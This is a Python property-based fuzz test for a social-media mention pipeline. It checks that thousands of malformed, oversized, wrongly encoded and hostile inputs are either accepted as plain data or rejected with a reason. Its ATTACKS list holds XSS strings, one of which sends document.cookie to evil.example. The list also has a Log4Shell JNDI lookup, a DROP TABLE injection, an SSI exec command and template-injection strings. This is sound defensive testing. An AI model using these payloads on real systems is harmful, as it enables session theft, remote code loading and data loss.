"""Bad input at scale: ≥ 10,000 hostile payloads through the pure `normalize` stage.

Every payload — malformed, oversized, wrongly encoded, deeply nested, wrongly typed, or
valid but carrying HTML/script — must come out as a `RawMention` or a `DeadLetter` with a
reason; nothing raises. The strategies here are reused by the end-to-end fuzz tests
(tests/test_fuzz_pipeline.py, tests/test_fuzz_webhook.py, tests/test_fuzz_report.py).
"""
from __future__ import annotations

import json
from collections import Counter
from dataclasses import dataclass
from datetime import datetime, timezone

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from connectors.synthetic import generate
from pipeline.normalize import normalize
from schemas import MAX_RECORD_BYTES, DeadLetter, DeadLetterReason, RawMention
from schemas.dead_letter import MAX_ORIGINAL_BYTES

N_PAYLOADS = 10_000

# Texts a webcare tool must show as text, never run: markup, script, template and
# injection strings, control and bidi characters.
ATTACKS = [
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(document.cookie)>',
    "</script><script>fetch('//evil.example/'+document.cookie)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "javascript:alert(1)//",
    "<a href=\"javascript:alert(1)\">klik hier</a>",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE mentions; --",
    "<!--#exec cmd=\"ls\"-->",
    "<style>body{display:none}</style>",
    "\u202eevil.exe\u202c",
    "zero\u200bwidth\u200djoin\ufeff",
    "nul\x00byte",
    "\x1b[31mred\x1b[0m\r\nSet-Cookie: x=1",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "😡" * 50 + " <b>bold</b>",
]
HOSTILE_TEXT = st.one_of(
    st.sampled_from(ATTACKS),
    st.builds(lambda a, t: f"{t} {a} {t}", st.sampled_from(ATTACKS), st.text(max_size=40)),
    st.text(min_size=1, max_size=200).filter(lambda t: t.strip() != ""),
)


def _valid_pool(n: int = 40) -> list[dict]:
    return [json.loads(g[0].model_dump_json(exclude_none=True)) for g in generate(n, seed=4242)]


VALID = _valid_pool()
REQUIRED = ["id", "source", "channel", "author", "text", "created_at", "brand"]
JSON_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(min_value=-2**70, max_value=2**70),
                         st.floats(allow_nan=False), st.text(max_size=30))
JSON_VALUES = st.recursive(JSON_SCALARS, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner, max_size=4)), max_leaves=12)
# a wrong value for each field: a type pydantic's strict mode must refuse
WRONG = {
    "id": st.one_of(st.integers(), st.just(""), st.just("no-colon"), st.just("twitter: space"), st.just("x" * 400)),
    "source": st.one_of(st.just("carrier-pigeon"), st.integers(), st.just("TWITTER")),
    "channel": st.one_of(st.just("own-ish"), st.booleans()),
    "author": st.one_of(st.just("just-a-string"), st.just({}), st.just({"handle": ""}),
                        st.just({"handle": "a", "followers": -1}), st.just({"handle": "a", "followers": "12"}),
                        st.just({"handle": "a", "is_verified": "true"}), st.just({"handle": "a", "x": 1})),
    "text": st.one_of(st.just(""), st.integers(), st.lists(st.text(max_size=5), max_size=3), st.none()),
    "created_at": st.one_of(st.just("2026-10-01T08:00:00"), st.just("yesterday"), st.integers(),
                            st.just("2026-13-45T99:00:00Z")),
    "brand": st.one_of(st.just(""), st.just("b" * 101), st.integers()),
    "schema_version": st.one_of(st.just(2), st.just("1"), st.just(0)),  # (1.0 reads as 1: harmless)
    "lang_hint": st.one_of(st.just("x" * 17), st.integers()),
    "raw": st.one_of(st.just([1, 2]), st.just("raw"), st.integers()),
}


@dataclass(frozen=True)
class Payload:
    kind: str
    value: bytes
    expect: frozenset[str]  # acceptable outcomes: DeadLetterReason values and/or "valid"

    def __repr__(self) -> str:  # hypothesis prints failing examples: keep megabytes out of it
        return f"Payload({self.kind!r}, {len(self.value)} bytes: {self.value[:120]!r}, expect={set(self.expect)})"


def _bytes(doc) -> bytes:
    return json.dumps(doc, ensure_ascii=False).encode()


ANY_BAD = frozenset(r.value for r in DeadLetterReason)


@st.composite
def payloads(draw) -> Payload:
    base = dict(draw(st.sampled_from(VALID)))
    kind = draw(st.sampled_from([
        "hostile_text", "wrong_type", "missing_field", "extra_field", "invalid_utf8", "wrong_encoding",
        "oversized_text", "megabyte", "deep_json", "truncated", "random_bytes", "random_json", "empty",
        "hostile_fields",
    ]))
    if kind == "hostile_text":  # valid: the text is data and must arrive exactly as sent
        base["text"] = draw(HOSTILE_TEXT)
        base["id"] = f"webhook:fuzz-{draw(st.integers(0, 10**12))}"
        return Payload(kind, _bytes(base), frozenset({"valid"}))
    if kind == "hostile_fields":  # markup in every free-text field; valid when within the limits
        base["author"] = {**base["author"], "display_name": draw(st.sampled_from(ATTACKS)),
                          "handle": draw(st.sampled_from(["<b>x</b>", "\"><img src=x>", "a'b"]))}
        base["brand"] = draw(st.sampled_from(["<script>x</script>", "Snelhap\u202e", "a&b"]))
        base["url"] = draw(st.sampled_from(["javascript:alert(1)", "https://x.example/\"><script>"]))
        base["raw"] = {"html": draw(st.sampled_from(ATTACKS)), "nested": {"a": [1, {"b": None}]}}
        base["id"] = f"webhook:fuzz-{draw(st.integers(0, 10**12))}"
        return Payload(kind, _bytes(base), frozenset({"valid"}))
    if kind == "wrong_type":
        field = draw(st.sampled_from(sorted(WRONG)))
        base[field] = draw(WRONG[field])
        return Payload(kind, _bytes(base), frozenset({"schema_violation", "oversized"}))
    if kind == "missing_field":
        del base[draw(st.sampled_from(REQUIRED))]
        return Payload(kind, _bytes(base), frozenset({"schema_violation"}))
    if kind == "extra_field":
        base[draw(st.text(min_size=1, max_size=20).filter(lambda k: k not in RawMention.model_fields))] = draw(JSON_VALUES)
        return Payload(kind, _bytes(base), frozenset({"schema_violation"}))
    if kind == "invalid_utf8":
        raw = _bytes(base)
        at = draw(st.integers(0, len(raw)))
        junk = draw(st.sampled_from([b"\xff", b"\xc3\x28", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80", b"\xe2\x82",
                                     b"\x80\x80", b"\xc0\xaf"]))
        return Payload(kind, raw[:at] + junk + raw[at:], frozenset({"undecodable"}))
    if kind == "wrong_encoding":
        # every text has a character outside ASCII that each codec can encode
        base["text"] = draw(st.sampled_from(["Café crème, één klacht", "naïve coöperatie ÿ", "Ærgerlijk: 12,50 terug?"]))
        codec = draw(st.sampled_from(["utf-16", "utf-32", "latin-1", "cp1252"]))
        raw = json.dumps(base, ensure_ascii=False).encode(codec, errors="replace")
        return Payload(kind, raw, frozenset({"undecodable", "malformed_json"}))
    if kind == "oversized_text":  # text over MAX_TEXT_CHARS, record maybe under the byte limit
        base["text"] = draw(st.sampled_from(["a", "é", "😡", "<b>x</b>"])) * draw(st.integers(10_001, 60_000))
        return Payload(kind, _bytes(base), frozenset({"oversized"}))
    if kind == "megabyte":  # around 1 MB, past the record limit in several shapes
        size = draw(st.integers(MAX_RECORD_BYTES + 1, 1_100_000))
        shape = draw(st.sampled_from(["text", "raw", "bare"]))
        if shape == "bare":
            return Payload(kind, b"x" * size, frozenset({"oversized"}))
        if shape == "raw":
            base["raw"] = {"blob": "y" * size}
        else:
            base["text"] = "z" * size
        return Payload(kind, _bytes(base), frozenset({"oversized"}))
    if kind == "deep_json":
        depth = draw(st.integers(250, 20_000))
        opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
        nested = opener * depth + "1" + closer * depth
        field = draw(st.sampled_from(["raw", "text", "author", "<root>"]))
        if field == "<root>":
            return Payload(kind, nested.encode(), frozenset({"malformed_json", "oversized"}))
        doc = json.dumps({**base, field: "@@"}).replace('"@@"', nested)
        return Payload(kind, doc.encode(), frozenset({"malformed_json", "oversized"}))
    if kind == "truncated":
        raw = _bytes(base)
        # cut inside a multi-byte character, it is not UTF-8 any more
        return Payload(kind, raw[:draw(st.integers(1, len(raw) - 1))], frozenset({"malformed_json", "undecodable"}))
    if kind == "random_bytes":
        return Payload(kind, draw(st.binary(min_size=1, max_size=600)), ANY_BAD)
    if kind == "random_json":
        return Payload(kind, _bytes(draw(JSON_VALUES)), frozenset({"schema_violation", "malformed_json"}))
    return Payload(kind, draw(st.sampled_from([b"", b"   ", b"\n", b"null", b"{}", b"[]", b'""'])),
                   frozenset({"malformed_json", "schema_violation"}))


FUZZ_SETTINGS = dict(database=None, deadline=None, phases=[Phase.explicit, Phase.generate, Phase.shrink],
                     suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                            HealthCheck.large_base_example, HealthCheck.filter_too_much])


def judge(payload: Payload) -> RawMention | DeadLetter:
    """Normalize one payload and check the contract; returns the result for more checks."""
    result = normalize(payload.value, received_at=datetime.now(timezone.utc), topic="fuzz.raw", partition=0,
                       offset=1, key=b"k")
    assert isinstance(result, RawMention | DeadLetter)
    if isinstance(result, DeadLetter):
        assert result.reason.value in payload.expect, (result.reason, result.detail[:300])
        assert result.detail.strip(), "a dead letter says why"
        assert result.stage == "normalize" and result.original() == payload.value[:MAX_ORIGINAL_BYTES]
        assert (result.original_size, result.original_truncated) == (len(payload.value),
                                                                     len(payload.value) > MAX_ORIGINAL_BYTES)
        # one Kafka record (1 MB by default) must hold the letter, whatever came in
        assert len(result.model_dump_json()) < 900_000
        # the letter itself travels on Kafka as JSON: it must serialise and read back
        assert DeadLetter.model_validate_json(result.model_dump_json()) == result
    else:
        assert "valid" in payload.expect, f"{payload.kind} should not pass"
        sent = json.loads(payload.value)
        assert result.text == sent["text"], "text is data: kept exactly, escaped only where it is shown"
        again = normalize(result.model_dump_json().encode(), received_at=datetime.now(timezone.utc))
        assert again == result
    return result


def test_ten_thousand_hostile_payloads_each_become_a_mention_or_a_dead_letter_with_reason():
    kinds: Counter[str] = Counter()
    outcomes: Counter[str] = Counter()

    @settings(max_examples=N_PAYLOADS, **FUZZ_SETTINGS)
    @given(payload=payloads())
    def check(payload: Payload) -> None:
        result = judge(payload)
        kinds[payload.kind] += 1
        outcomes["valid" if isinstance(result, RawMention) else result.reason.value] += 1

    check()
    print(f"\nfuzzed {sum(kinds.values())} payloads: {dict(kinds)}; outcomes {dict(outcomes)}")
    assert sum(kinds.values()) >= N_PAYLOADS
    assert len(kinds) == 14, f"every kind of payload was tried: {kinds}"
    assert {"valid", "oversized", "undecodable", "malformed_json", "schema_violation"} <= outcomes.keys()


def test_known_hostile_texts_pass_through_unchanged():
    for attack in ATTACKS:
        doc = {**VALID[0], "id": "webhook:attack", "text": attack}
        result = judge(Payload("hostile_text", _bytes(doc), frozenset({"valid"})))
        assert isinstance(result, RawMention) and result.text == attack
